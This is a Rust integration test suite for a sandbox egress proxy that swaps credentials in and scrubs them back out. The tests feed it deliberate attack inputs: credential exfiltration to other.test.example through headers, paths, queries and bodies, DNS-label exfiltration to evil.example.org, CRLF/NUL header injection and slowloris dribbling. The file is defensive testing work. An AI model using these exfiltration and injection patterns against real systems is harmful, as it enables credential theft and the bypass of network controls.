//! The egress proxy with real parts, as root: real network namespaces and veths, a fake HTTPS
//! upstream in its own netns, the proxy on the host side of a "client" netns that plays the
//! sandbox, and real clients (curl, and raw rustls/TCP clients made inside the client netns).

use std::time::{Duration, Instant};

use base64::Engine;
use base64::engine::general_purpose::STANDARD as B64;
use gateway::egress::EgressLimits;
use http::Version;
use sha2::{Digest, Sha256};
use testkit::egress::*;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

fn limits() -> EgressLimits {
    EgressLimits {
        header_read_timeout: Duration::from_secs(2),
        handshake_timeout: Duration::from_secs(3),
        max_connections: 16,
        ..EgressLimits::default()
    }
}

fn denied_with(events: &[gateway::store::AuditEvent], target: &str, reason: &str) -> bool {
    events.iter().any(|e| {
        e.action == "egress.denied" && e.target.contains(target) && e.detail.contains(reason)
    })
}

#[test]
fn credential_is_swapped_in_the_declared_place_only_and_scrubbed_back() {
    testkit::privileged(
        "credential_is_swapped_in_the_declared_place_only_and_scrubbed_back",
        4,
        || async {
            let fx = Fixture::new(limits()).await;
            let ph = fx.token_ph().to_owned();
            let bearer = format!("Authorization: Bearer {ph}");

            for (version_flag, want) in [
                ("--http1.1", Version::HTTP_11),
                ("--http2", Version::HTTP_2),
            ] {
                // chunk=5: the echoed value straddles many frame boundaries.
                let out = fx.curl(&[
                    version_flag,
                    "-i",
                    "-H",
                    &bearer,
                    "--data-binary",
                    &format!("body carries {ph} too"),
                    "https://api.test.example/echo?chunk=5",
                ]);
                assert_eq!(out.code, 0, "{version_flag}: {}", out.stderr);
                let text = out.text();
                assert!(text.contains(" 200"), "{text}");
                assert!(
                    !contains(&out.stdout, TOKEN_VALUE.as_bytes()),
                    "real value reached the client: {text}"
                );
                assert!(
                    text.contains(&format!("x-echo-authorization: Bearer {ph}")),
                    "{text}"
                );
                assert!(
                    text.contains(&format!("authorization: Bearer {ph}")),
                    "echoed body: {text}"
                );
                if want == Version::HTTP_2 {
                    assert!(text.contains("HTTP/2 200"), "downstream h2: {text}");
                }
                let seen = fx.upstream.seen();
                let last = seen.last().unwrap();
                assert_eq!(
                    last.header("authorization"),
                    Some(format!("Bearer {TOKEN_VALUE}").as_bytes())
                );
                assert_eq!(last.header("accept-encoding"), Some(&b"identity"[..]));
                assert_eq!(last.authority, "api.test.example");
                // The placeholder in the body is not the declared place: it goes out as it is.
                assert!(contains(&last.body, ph.as_bytes()));
                assert!(!contains(&last.body, TOKEN_VALUE.as_bytes()));
            }
            // The proxy chose h2 upstream (the upstream offers it) at least once.
            assert!(
                fx.upstream
                    .seen()
                    .iter()
                    .any(|s| s.version == Version::HTTP_2)
            );

            // Basic: the placeholder inside the base64 is replaced; the echo comes back re-encoded
            // with the placeholder.
            let basic = fx.curl(&[
                "-i",
                "-u",
                &format!("alice:{}", fx.ph["BASIC_PW"]),
                "https://api.test.example/echo?chunk=3",
            ]);
            assert_eq!(basic.code, 0, "{}", basic.stderr);
            let last = fx.upstream.seen().last().unwrap().clone();
            let want = format!("Basic {}", B64.encode(format!("alice:{BASIC_VALUE}")));
            assert_eq!(last.header("authorization"), Some(want.as_bytes()));
            assert!(
                !contains(&basic.stdout, want.as_bytes()),
                "{}",
                basic.text()
            );
            assert!(!contains(&basic.stdout, BASIC_VALUE.as_bytes()));

            // Query parameter: swapped (percent-encoded) in `key` only; scrubbed in the echo.
            let q = fx.curl(&[&format!(
                "https://api.test.example/echo?key={}&other=1",
                fx.ph["QUERY_KEY"]
            )]);
            assert_eq!(q.code, 0, "{}", q.stderr);
            let last = fx.upstream.seen().last().unwrap().clone();
            assert_eq!(
                last.path_and_query,
                "/echo?key=qk-REAL%2Fquery%2Bkey%2042&other=1"
            );
            assert!(!contains(&q.stdout, b"qk-REAL"), "{}", q.text());

            // A placeholder in another header to the bound host: passed as is, never swapped.
            let other_header =
                fx.curl(&["-H", &format!("X-Token: {ph}"), "https://api.test.example/"]);
            assert_eq!(other_header.code, 0);
            let last = fx.upstream.seen().last().unwrap().clone();
            assert_eq!(last.header("x-token"), Some(ph.as_bytes()));
            assert!(
                !fx.upstream
                    .seen()
                    .last()
                    .unwrap()
                    .all_bytes()
                    .windows(TOKEN_VALUE.len())
                    .any(|w| w == TOKEN_VALUE.as_bytes())
            );

            // A bound host's responses are scrubbed even when this request carried no placeholder
            // (here the upstream "knows" the value because the test sends it).
            let unprompted = fx.curl(&[
                "-i",
                "-H",
                &format!("X-Known: {TOKEN_VALUE}"),
                "https://api.test.example/echo?chunk=2",
            ]);
            assert_eq!(unprompted.code, 0);
            assert!(
                !contains(&unprompted.stdout, TOKEN_VALUE.as_bytes()),
                "{}",
                unprompted.text()
            );
            assert!(unprompted.text().contains(&format!("x-echo-x-known: {ph}")));

            // A compressed response to a request that carried a credential is refused.
            let gz = fx.curl(&[
                "-H",
                &bearer,
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}",
                "https://api.test.example/gzip",
            ]);
            assert_eq!(gz.text(), "502");

            let events = fx.audit().await;
            assert!(
                events
                    .iter()
                    .any(|e| e.action == "egress.connect" && e.target == "api.test.example:443")
            );
            let req = events
                .iter()
                .find(|e| {
                    e.action == "egress.request" && e.detail.contains("credentials=API_TOKEN")
                })
                .expect("request audited with the credential name");
            assert!(
                req.detail.contains("status=200") && req.detail.contains("bytes_down="),
                "{}",
                req.detail
            );
            let qev = events
                .iter()
                .find(|e| {
                    e.action == "egress.request" && e.detail.contains("credentials=QUERY_KEY")
                })
                .unwrap();
            assert!(
                qev.detail.contains("path=\"/echo?key=&other=\""),
                "query values kept: {}",
                qev.detail
            );
            assert!(denied_with(
                &events,
                "api.test.example:443",
                "encoded response"
            ));
            for e in &events {
                for secret in [TOKEN_VALUE, BASIC_VALUE, "qk-REAL"] {
                    assert!(
                        !e.detail.contains(secret) && !e.target.contains(secret),
                        "secret in audit: {e:?}"
                    );
                }
            }
            // The client side never saw a real value, anywhere.
            for out in [&basic, &q, &other_header] {
                for secret in [TOKEN_VALUE, BASIC_VALUE, "qk-REAL"] {
                    assert!(
                        !contains(&out.stdout, secret.as_bytes()) && !out.stderr.contains(secret)
                    );
                }
            }
        },
    );
}

#[test]
fn placeholder_to_an_unbound_host_is_refused_and_nothing_reaches_it() {
    testkit::privileged(
        "placeholder_to_an_unbound_host_is_refused_and_nothing_reaches_it",
        4,
        || async {
            let fx = Fixture::new(limits()).await;
            let ph = fx.token_ph().to_owned();
            let code = |args: &[&str]| {
                let mut all = vec!["-o", "/dev/null", "-w", "%{http_code}"];
                all.extend_from_slice(args);
                fx.curl(&all).text()
            };
            let other = "https://other.test.example";
            assert_eq!(
                code(&[
                    "-H",
                    &format!("Authorization: Bearer {ph}"),
                    &format!("{other}/")
                ]),
                "403"
            );
            assert_eq!(
                code(&["-H", &format!("X-Whatever: x{ph}y"), &format!("{other}/")]),
                "403"
            );
            assert_eq!(code(&[&format!("{other}/upload/{ph}")]), "403");
            assert_eq!(code(&[&format!("{other}/?q={ph}")]), "403");
            assert_eq!(
                code(&["--data-binary", &format!("leak={ph}"), &format!("{other}/")]),
                "403"
            );
            assert_eq!(
                code(&[
                    "--http2",
                    "-H",
                    &format!("Authorization: Bearer {ph}"),
                    &format!("{other}/")
                ]),
                "403"
            );
            assert!(
                fx.upstream
                    .seen()
                    .iter()
                    .all(|s| s.authority != "other.test.example"),
                "something reached other"
            );

            // A large streamed body (length unknown to the proxy in advance): cut before the
            // placeholder's bytes leave.
            let big = fx.dir.path().join("big-with-placeholder");
            let mut data = vec![b'z'; 3 << 20];
            data.extend_from_slice(ph.as_bytes());
            data.extend_from_slice(&vec![b'z'; 1 << 20]);
            std::fs::write(&big, &data).unwrap();
            let streamed = code(&[
                "-H",
                "Transfer-Encoding: chunked",
                "--data-binary",
                &format!("@{}", big.display()),
                &format!("{other}/sum"),
            ]);
            assert_ne!(streamed, "200", "streamed exfiltration went through");
            assert!(
                !fx.upstream.ever_saw(ph.as_bytes()),
                "placeholder bytes reached the upstream"
            );

            // Without the placeholder, the same host works.
            assert_eq!(code(&[&format!("{other}/")]), "200");

            let events = fx.audit().await;
            let exfil: Vec<_> = events
                .iter()
                .filter(|e| {
                    e.action == "egress.denied" && e.detail.contains("credential=API_TOKEN")
                })
                .collect();
            assert!(exfil.len() >= 7, "{exfil:#?}");
            for place in ["place=header", "place=path", "place=query", "place=body"] {
                assert!(
                    exfil.iter().any(|e| e.detail.contains(place)),
                    "no {place} in {exfil:#?}"
                );
            }
            assert!(exfil.iter().all(|e| e.target == "other.test.example:443"));
        },
    );
}

#[test]
fn destinations_are_checked_before_anything_is_sent() {
    testkit::privileged(
        "destinations_are_checked_before_anything_is_sent",
        4,
        || async {
            let fx = Fixture::new(limits()).await;
            let connect_code = |url: &str| {
                let out = fx.curl(&["-o", "/dev/null", "-w", "%{http_connect}", url]);
                out.text()
            };
            assert_eq!(connect_code("https://notlisted.test.example/"), "403");
            assert_eq!(
                connect_code(&format!("https://{}/", fx.net.upstream_ip())),
                "403"
            );
            assert_eq!(connect_code("https://api.test.example:8443/"), "403");
            assert_eq!(connect_code("https://loop.test.example/"), "403");
            assert_eq!(connect_code("https://meta.test.example/"), "403");
            assert_eq!(connect_code("https://pool.test.example/"), "403");
            // Plain HTTP: refused for a host not allowed over HTTP.
            let plain = fx.curl(&[
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}",
                "http://api.test.example/",
            ]);
            assert_eq!(plain.text(), "403");

            // SNI other than the CONNECT host: the handshake is dropped, no certificate minted.
            let (s, head) = connect_tunnel(&fx, "api.test.example:443").await;
            assert!(head.starts_with("HTTP/1.1 200"), "{head}");
            let before = fx.shared.leaf_cache_stats();
            let tls = tls_client(s, fx.cacert(), "other.test.example", &[b"http/1.1"]).await;
            assert!(tls.is_err(), "SNI mismatch accepted");
            let after = fx.shared.leaf_cache_stats();
            assert_eq!(
                before.misses, after.misses,
                "a leaf was minted for an unchecked SNI"
            );
            // The same through curl (--connect-to: CONNECT other, SNI api).
            let ct = fx.curl(&[
                "--connect-to",
                "api.test.example:443:other.test.example:443",
                "https://api.test.example/",
            ]);
            assert_ne!(ct.code, 0, "curl --connect-to got through");

            // Attribution: a connection from any address other than the sandbox's is refused.
            let from_host = in_netns_host_connect(fx.proxy.local_addr()).await;
            assert!(
                from_host.is_empty() || !from_host.starts_with("HTTP/1.1 200"),
                "{from_host}"
            );

            // Nothing of this reached the upstream.
            assert!(fx.upstream.seen().is_empty(), "{:?}", fx.upstream.seen());

            let events = fx.audit().await;
            for (target, reason) in [
                ("notlisted.test.example:443", "not on the egress allowlist"),
                ("10.240.", "IP-literal"),
                ("api.test.example:8443", "port not allowed"),
                ("loop.test.example:443", "forbidden address"),
                ("meta.test.example:443", "forbidden address"),
                ("pool.test.example:443", "forbidden address"),
                ("api.test.example:80", "plain HTTP not allowed"),
                ("api.test.example:443", "SNI differs"),
                ("other.test.example:443", "SNI differs"),
                ("", "not from the sandbox's address"),
            ] {
                assert!(
                    denied_with(&events, target, reason),
                    "no denial {target} {reason}: {events:#?}"
                );
            }
        },
    );
}

/// Connects to the proxy from the host's own namespace (source N.1, not N.2).
async fn in_netns_host_connect(proxy: std::net::SocketAddr) -> String {
    let mut s = tokio::net::TcpStream::connect(proxy).await.unwrap();
    let _ = s
        .write_all(b"CONNECT api.test.example:443 HTTP/1.1\r\nHost: api.test.example:443\r\n\r\n")
        .await;
    let mut buf = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), s.read_to_end(&mut buf)).await;
    String::from_utf8_lossy(&buf).into_owned()
}

#[test]
fn every_inner_request_is_checked() {
    testkit::privileged("every_inner_request_is_checked", 4, || async {
        let fx = Fixture::new(limits()).await;
        let status = |args: &[&str]| {
            let mut all = vec!["-o", "/dev/null", "-w", "%{http_code}"];
            all.extend_from_slice(args);
            fx.curl(&all).text()
        };
        let api = "https://api.test.example/";
        // Host / :authority other than the SNI.
        assert_eq!(
            status(&["--http1.1", "-H", "Host: other.test.example", api]),
            "403"
        );
        assert_eq!(
            status(&["--http2", "-H", "Host: other.test.example", api]),
            "403"
        );
        // CONNECT and absolute-form inside the tunnel.
        assert_eq!(status(&["--http1.1", "-X", "CONNECT", api]), "403");
        assert_eq!(
            status(&[
                "--http1.1",
                "--request-target",
                "https://other.test.example/",
                api
            ]),
            "403"
        );
        // Oversized headers: 431 inside the tunnel and on the proxy port.
        let huge = format!("X-Big: {}", "a".repeat(100 * 1024));
        let code = status(&["--http1.1", "-H", &huge, api]);
        assert_eq!(
            code,
            "431",
            "{:#?} {:#?}",
            fx.audit().await,
            fx.upstream.seen().len()
        );
        let outer = fx.curl(&[
            "-o",
            "/dev/null",
            "-w",
            "%{http_connect}",
            "--proxy-header",
            &huge,
            api,
        ]);
        assert_eq!(outer.text(), "431", "{}", outer.stderr);
        let h2_huge = fx.curl(&[
            "--http2",
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "-H",
            &huge,
            api,
        ]);
        assert_ne!(h2_huge.text(), "200", "h2 oversized headers accepted");

        // Raw HTTP/1.1 over an intercepted tunnel: keep-alive, then another Host on the same
        // connection.
        let mut t = h1_tunnel(&fx, "api.test.example").await;
        let head = raw_exchange(
            &mut t,
            b"GET /one HTTP/1.1\r\nHost: api.test.example\r\n\r\n",
        )
        .await;
        assert!(head.starts_with("HTTP/1.1 200"), "{head}");
        let _ = read_body(&mut t, &head).await;
        let head = raw_exchange(
            &mut t,
            b"GET /two HTTP/1.1\r\nHost: other.test.example\r\n\r\n",
        )
        .await;
        assert!(head.starts_with("HTTP/1.1 403"), "{head}");
        let _ = read_body(&mut t, &head).await;
        // Absolute-form and CRLF/NUL injection on raw connections.
        let head = raw_exchange(
            &mut t,
            b"GET https://other.test.example/ HTTP/1.1\r\nHost: api.test.example\r\n\r\n",
        )
        .await;
        assert!(head.starts_with("HTTP/1.1 403"), "{head}");
        let mut t = h1_tunnel(&fx, "api.test.example").await;
        let head = raw_exchange(
            &mut t,
            b"GET /crlf HTTP/1.1\r\nHost: api.test.example\r\nX-Evil: a\rInjected: b\r\n\r\n",
        )
        .await;
        assert!(
            head.starts_with("HTTP/1.1 400") || head.contains("error"),
            "{head}"
        );
        let mut t = h1_tunnel(&fx, "api.test.example").await;
        let head = raw_exchange(
            &mut t,
            b"GET /nul HTTP/1.1\r\nHost: api.test.example\r\nX-Evil: a\0b\r\n\r\n",
        )
        .await;
        assert!(
            head.starts_with("HTTP/1.1 400") || head.contains("error"),
            "{head}"
        );
        // CRLF in the CONNECT line itself.
        let (_s, head) = connect_tunnel(&fx, "api.test.example:443\r\nX-Injected: 1").await;
        assert!(!head.starts_with("HTTP/1.1 200"), "{head}");

        let seen = fx.upstream.seen();
        assert_eq!(
            seen.iter()
                .map(|s| s.path_and_query.as_str())
                .collect::<Vec<_>>(),
            ["/one"],
            "{seen:#?}"
        );
        let events = fx.audit().await;
        for reason in [
            "Host/:authority differs",
            "CONNECT inside a tunnel",
            "not origin-form",
        ] {
            assert!(
                denied_with(&events, "api.test.example:443", reason),
                "{reason}: {events:#?}"
            );
        }
    });
}

fn sha256_hex(data: &[u8]) -> String {
    hex::encode(Sha256::digest(data))
}

#[test]
fn hundred_megabytes_each_way_byte_exact() {
    testkit::privileged("hundred_megabytes_each_way_byte_exact", 4, || async {
        let fx = Fixture::new(limits()).await;
        const N: usize = 100 * 1024 * 1024;
        // Upload: streamed through, checksum computed by the upstream.
        let up = fx.dir.path().join("up.bin");
        let data = testkit::upstream::pattern(7, N);
        std::fs::write(&up, &data).unwrap();
        let want = format!("{N} {}", sha256_hex(&data));
        for v in ["--http1.1", "--http2"] {
            let out = fx.curl(&[
                v,
                "--data-binary",
                &format!("@{}", up.display()),
                "https://api.test.example/sum",
            ]);
            assert_eq!(out.code, 0, "{}", out.stderr);
            assert_eq!(out.text(), want, "{v}");
        }
        drop(data);
        // Download with a credential injected: every byte goes through the scrubber.
        let down = fx.dir.path().join("down.bin");
        let t = Instant::now();
        let out = fx.curl(&[
            "-H",
            &format!("Authorization: Bearer {}", fx.token_ph()),
            "-o",
            &down.to_string_lossy(),
            &format!("https://api.test.example/big?n={N}"),
        ]);
        assert_eq!(out.code, 0, "{}", out.stderr);
        eprintln!(
            "100 MB scrubbed download through the proxy (debug build): {:?}",
            t.elapsed()
        );
        let got = std::fs::read(&down).unwrap();
        assert_eq!(got.len(), N);
        assert!(got == testkit::upstream::pattern(0, N), "download differs");
    });
}

#[test]
fn connection_limit_and_slowloris() {
    testkit::privileged("connection_limit_and_slowloris", 4, || async {
        let fx = Fixture::new(EgressLimits {
            max_connections: 6,
            ..limits()
        })
        .await;
        // Six tunnels held open: the limit.
        let mut held = Vec::new();
        for _ in 0..6 {
            let (s, head) = connect_tunnel(&fx, "api.test.example:443").await;
            assert!(head.starts_with("HTTP/1.1 200"), "{head}");
            held.push(s);
        }
        let (_s, head) = connect_tunnel(&fx, "api.test.example:443").await;
        assert!(head.starts_with("HTTP/1.1 503"), "past the limit: {head}");
        drop(held);
        tokio::time::sleep(Duration::from_millis(300)).await;
        let ok = fx.curl(&[
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "https://api.test.example/",
        ]);
        assert_eq!(
            ok.text(),
            "200",
            "after the held connections closed: {}",
            ok.stderr
        );

        // Slowloris: a CONNECT head dribbled byte by byte is cut off at the header timeout (2 s),
        // while a normal client is served meanwhile.
        let mut slow = connect_from(&fx.net.client_ns, fx.proxy.local_addr()).await;
        let started = Instant::now();
        let dribble = tokio::spawn(async move {
            for b in
                b"CONNECT api.test.example:443 HTTP/1.1\r\nHost: api.test.example:443\r\nX-Slow: "
                    .iter()
                    .chain([b'a'; 200].iter())
            {
                if slow.write_all(&[*b]).await.is_err() {
                    return started.elapsed();
                }
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
            started.elapsed()
        });
        tokio::time::sleep(Duration::from_millis(500)).await;
        let normal = fx.curl(&[
            "-o",
            "/dev/null",
            "-w",
            "%{http_code}",
            "https://api.test.example/",
        ]);
        assert_eq!(normal.text(), "200");
        let cut_after = dribble.await.unwrap();
        assert!(
            cut_after < Duration::from_secs(8),
            "slowloris lasted {cut_after:?}"
        );
        // The same inside a tunnel: a request head dribbled after the TLS handshake.
        let mut t = h1_tunnel(&fx, "api.test.example").await;
        let started = Instant::now();
        let mut cut = false;
        for b in b"GET / HTTP/1.1\r\nHost: api.test.example\r\nX-Slow: "
            .iter()
            .chain([b'a'; 200].iter())
        {
            if t.write_all(&[*b]).await.is_err() || t.flush().await.is_err() {
                cut = true;
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        assert!(cut, "inner slowloris not cut off");
        assert!(started.elapsed() < Duration::from_secs(8));

        let events = fx.audit().await;
        assert!(
            denied_with(&events, "", "too many connections"),
            "{events:#?}"
        );
    });
}

#[test]
fn a_thousand_concurrent_connections_stay_within_the_limit() {
    testkit::privileged(
        "a_thousand_concurrent_connections_stay_within_the_limit",
        4,
        || async {
            const CLIENTS: usize = 1000;
            let limits = EgressLimits::default();
            let limit = limits.max_connections;
            assert!(limit < CLIENTS);
            let fx = Fixture::new(limits).await;
            // All connections open at once from the sandbox's address, then all ask for a tunnel.
            let mut streams = Vec::with_capacity(CLIENTS);
            for _ in 0..CLIENTS {
                streams.push(connect_from(&fx.net.client_ns, fx.proxy.local_addr()).await);
            }
            let heads = futures_util::future::join_all(streams.iter_mut().map(|s| async move {
                let authority = "api.test.example:443";
                s.write_all(
                    format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n").as_bytes(),
                )
                .await
                .ok();
                tokio::time::timeout(Duration::from_secs(20), read_head(s))
                    .await
                    .ok()
                    .and_then(Result::ok)
                    .unwrap_or_default()
            }))
            .await;
            let ok = heads
                .iter()
                .filter(|h| h.starts_with("HTTP/1.1 200"))
                .count();
            let refused = heads
                .iter()
                .filter(|h| h.starts_with("HTTP/1.1 503"))
                .count();
            eprintln!(
                "{CLIENTS} concurrent: {ok} tunnels, {refused} refused with 503 (limit {limit})"
            );
            assert_eq!(ok, limit, "tunnels past the limit");
            assert_eq!(ok + refused, CLIENTS, "every connection got a clear answer");
            drop(streams);
            tokio::time::sleep(Duration::from_millis(500)).await;
            let after = fx.curl(&[
                "-o",
                "/dev/null",
                "-w",
                "%{http_code}",
                "https://api.test.example/",
            ]);
            assert_eq!(
                after.text(),
                "200",
                "the proxy still serves: {}",
                after.stderr
            );
            let events = fx.audit().await;
            assert!(
                denied_with(&events, "", "too many connections"),
                "refusals audited"
            );
        },
    );
}

#[test]
fn transparent_mode_takes_the_host_from_sni_and_dns_answers_only_allowlisted_names() {
    testkit::privileged(
        "transparent_mode_takes_the_host_from_sni_and_dns_answers_only_allowlisted_names",
        4,
        || async {
            let fx = Fixture::new(limits()).await;
            let n1 = fx.net.proxy_ip();
            let tls_listener = std::net::TcpListener::bind((n1, 443)).unwrap();
            fx.proxy.adopt_transparent_listener(tls_listener).unwrap();
            let udp = std::net::UdpSocket::bind((n1, 53)).unwrap();
            let tcp = std::net::TcpListener::bind((n1, 53)).unwrap();
            fx.proxy.adopt_dns(Some(udp), Some(tcp), n1).unwrap();

            // No proxy variables: curl resolves through our DNS (via --dns-servers if available, else
            // --resolve with the answer we check separately) and connects to N.1:443.
            let answer = dns_query(&fx, "api.test.example", 1).await;
            assert_eq!(answer[3] & 0x0f, 0, "NOERROR");
            assert_eq!(&answer[answer.len() - 4..], &n1.octets());
            let resolve = format!("api.test.example:443:{n1}");
            let ca = fx.cacert().to_string_lossy().into_owned();
            for v in ["--http1.1", "--http2"] {
                let out = fx.curl_raw(&[
                    "-sS",
                    "--max-time",
                    "20",
                    v,
                    "--cacert",
                    &ca,
                    "--resolve",
                    &resolve,
                    "-H",
                    &format!("Authorization: Bearer {}", fx.token_ph()),
                    "https://api.test.example/echo",
                ]);
                assert_eq!(out.code, 0, "{}", out.stderr);
                assert!(!contains(&out.stdout, TOKEN_VALUE.as_bytes()));
                let last = fx.upstream.seen().last().unwrap().clone();
                assert_eq!(
                    last.header("authorization"),
                    Some(format!("Bearer {TOKEN_VALUE}").as_bytes())
                );
            }
            // SNI of a host not on the allowlist: dropped.
            let bad = fx.curl_raw(&[
                "-sS",
                "--max-time",
                "10",
                "--cacert",
                &ca,
                "--resolve",
                &format!("notlisted.test.example:443:{n1}"),
                "https://notlisted.test.example/",
            ]);
            assert_ne!(bad.code, 0);
            // An allowlisted name that resolves to a forbidden address: dropped.
            let lo = fx.curl_raw(&[
                "-sS",
                "--max-time",
                "10",
                "--cacert",
                &ca,
                "--resolve",
                &format!("loop.test.example:443:{n1}"),
                "https://loop.test.example/",
            ]);
            assert_ne!(lo.code, 0);

            // DNS: other names NXDOMAIN for every type; TXT and long labels never forwarded.
            assert_eq!(dns_query(&fx, "evil.example.org", 1).await[3] & 0x0f, 3);
            assert_eq!(dns_query(&fx, "evil.example.org", 16).await[3] & 0x0f, 3);
            assert_eq!(
                dns_query(&fx, "api.test.example", 16).await[3] & 0x0f,
                5,
                "TXT refused"
            );
            let exfil = format!(
                "{}.{}.evil.example.org",
                "6b6579".repeat(10),
                "a".repeat(63)
            );
            assert_eq!(dns_query(&fx, &exfil, 1).await[3] & 0x0f, 3);

            let events = fx.audit().await;
            assert!(
                events
                    .iter()
                    .any(|e| e.action == "egress.connect" && e.detail.contains("kind=transparent"))
            );
            assert!(denied_with(
                &events,
                "notlisted.test.example",
                "not on the egress allowlist"
            ));
            assert!(denied_with(
                &events,
                "loop.test.example:443",
                "forbidden address"
            ));
            assert!(denied_with(&events, "evil.example.org", "kind=dns"));
        },
    );
}

/// One DNS query over UDP from the client netns to N.1:53.
async fn dns_query(fx: &Fixture, name: &str, qtype: u16) -> Vec<u8> {
    let mut q = vec![0xab, 0xcd, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        q.push(label.len() as u8);
        q.extend_from_slice(label.as_bytes());
    }
    q.push(0);
    q.extend_from_slice(&qtype.to_be_bytes());
    q.extend_from_slice(&1u16.to_be_bytes());
    let server = std::net::SocketAddr::from((fx.net.proxy_ip(), 53));
    let sock = in_netns(&fx.net.client_ns, || {
        std::net::UdpSocket::bind("0.0.0.0:0").unwrap()
    });
    sock.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
    sock.send_to(&q, server).unwrap();
    let mut buf = [0u8; 1024];
    let n = sock.recv(&mut buf).expect("DNS reply");
    assert_eq!(&buf[..2], &[0xab, 0xcd]);
    buf[..n].to_vec()
}

#[test]
fn ca_is_sealed_in_the_vault_and_leaves_are_cached() {
    testkit::privileged(
        "ca_is_sealed_in_the_vault_and_leaves_are_cached",
        4,
        || async {
            let fx = Fixture::new(limits()).await;
            let pem = std::fs::read_to_string(fx.cacert()).unwrap();
            assert!(pem.starts_with("-----BEGIN CERTIFICATE-----"));
            assert!(!pem.contains("PRIVATE KEY"));
            // The key is a vault secret; the database holds no plaintext key.
            let names: Vec<String> = {
                let vault = gateway::vault::Vault::open(
                    fx.store.clone(),
                    gateway::vault::MasterKey::generate().unwrap(),
                );
                assert!(vault.is_err(), "another master key must be refused");
                fx.store
                    .secret_list()
                    .unwrap()
                    .into_iter()
                    .map(|m| m.name)
                    .collect()
            };
            assert!(
                names.contains(&gateway::egress::CA_KEY_SECRET.to_owned()),
                "{names:?}"
            );

            for _ in 0..3 {
                assert_eq!(
                    fx.curl(&[
                        "-o",
                        "/dev/null",
                        "-w",
                        "%{http_code}",
                        "https://api.test.example/"
                    ])
                    .text(),
                    "200"
                );
            }
            assert_eq!(
                fx.curl(&[
                    "-o",
                    "/dev/null",
                    "-w",
                    "%{http_code}",
                    "https://other.test.example/"
                ])
                .text(),
                "200"
            );
            let stats = fx.shared.leaf_cache_stats();
            assert_eq!(stats.misses, 2, "{stats:?}");
            assert_eq!(stats.hits, 2, "{stats:?}");
            assert_eq!(stats.entries, 2);
        },
    );
}

#[test]
fn plain_http_only_where_allowed_and_never_with_a_placeholder() {
    testkit::privileged(
        "plain_http_only_where_allowed_and_never_with_a_placeholder",
        4,
        || async {
            let fx = Fixture::new(limits()).await;
            let ok = fx.curl(&[
                "-i",
                "-H",
                "Connection: x-private",
                "-H",
                "X-Private: 1",
                "http://plain.test.example/echo",
            ]);
            assert_eq!(ok.code, 0, "{}", ok.stderr);
            assert!(ok.text().starts_with("HTTP/1.1 200"), "{}", ok.text());
            let last = fx.upstream.seen().last().unwrap().clone();
            assert_eq!(last.authority, "plain.test.example");
            assert_eq!(
                last.header("x-private"),
                None,
                "a header named in Connection was forwarded"
            );
            assert_eq!(last.header("proxy-connection"), None);
            let code = |args: &[&str]| {
                let mut all = vec!["-o", "/dev/null", "-w", "%{http_code}"];
                all.extend_from_slice(args);
                fx.curl(&all).text()
            };
            let ph = fx.token_ph().to_owned();
            let bearer = format!("Authorization: Bearer {ph}");
            assert_eq!(code(&["-H", &bearer, "http://plain.test.example/"]), "403");
            assert_eq!(code(&["http://plain.test.example:8080/"]), "403");
            assert_eq!(code(&["http://other.test.example/"]), "403");
            assert_eq!(fx.upstream.seen().len(), 1);
            let events = fx.audit().await;
            assert!(denied_with(
                &events,
                "plain.test.example:80",
                "credential=API_TOKEN"
            ));
            assert!(denied_with(
                &events,
                "plain.test.example:8080",
                "port not allowed"
            ));
            assert!(denied_with(
                &events,
                "other.test.example:80",
                "plain HTTP not allowed"
            ));
        },
    );
}

#[tokio::test]
async fn ca_key_survives_a_restart_and_the_certificate_file_is_rewritten_if_lost() {
    use gateway::egress::{EgressConfig, EgressShared};
    use std::sync::Arc;
    let dir = tempfile::tempdir().unwrap();
    let store: Arc<dyn gateway::store::Store> =
        Arc::new(gateway::store::SqliteStore::open_in(&dir.path().join("s")).unwrap());
    let key = gateway::vault::MasterKey::generate().unwrap();
    let vault = Arc::new(gateway::vault::Vault::open(store.clone(), key).unwrap());
    let cert = dir.path().join("ca.pem");
    let auditor = gateway::audit::Auditor::new(store.clone(), "test");
    let start = || {
        EgressShared::new(
            vault.clone(),
            auditor.clone(),
            EgressConfig::new(cert.clone()),
        )
        .unwrap()
    };
    let first = start();
    let pem1 = std::fs::read_to_string(&cert).unwrap();
    assert_eq!(first.ca_cert_pem(), pem1);
    drop(first);
    let second = start();
    assert_eq!(
        std::fs::read_to_string(&cert).unwrap(),
        pem1,
        "same key: file kept"
    );
    drop(second);
    std::fs::remove_file(&cert).unwrap();
    let third = start();
    let pem3 = std::fs::read_to_string(&cert).unwrap();
    assert_eq!(third.ca_cert_pem(), pem3);
    assert_ne!(pem1, pem3, "re-issued (new serial and validity)");
    // Re-issued for the same key: the same 65-byte P-256 public point inside both.
    let der = |pem: &str| {
        use rustls::pki_types::{CertificateDer, pem::PemObject};
        CertificateDer::from_pem_slice(pem.as_bytes())
            .unwrap()
            .as_ref()
            .to_vec()
    };
    let (a, b) = (der(&pem1), der(&pem3));
    let common = a
        .windows(65)
        .filter(|w| w[0] == 4)
        .any(|w| b.windows(65).any(|x| x == w));
    assert!(common, "the re-issued certificate has another key");
    let names: Vec<String> = store
        .secret_list()
        .unwrap()
        .into_iter()
        .map(|m| m.name)
        .collect();
    assert_eq!(names, [gateway::egress::CA_KEY_SECRET]);
}
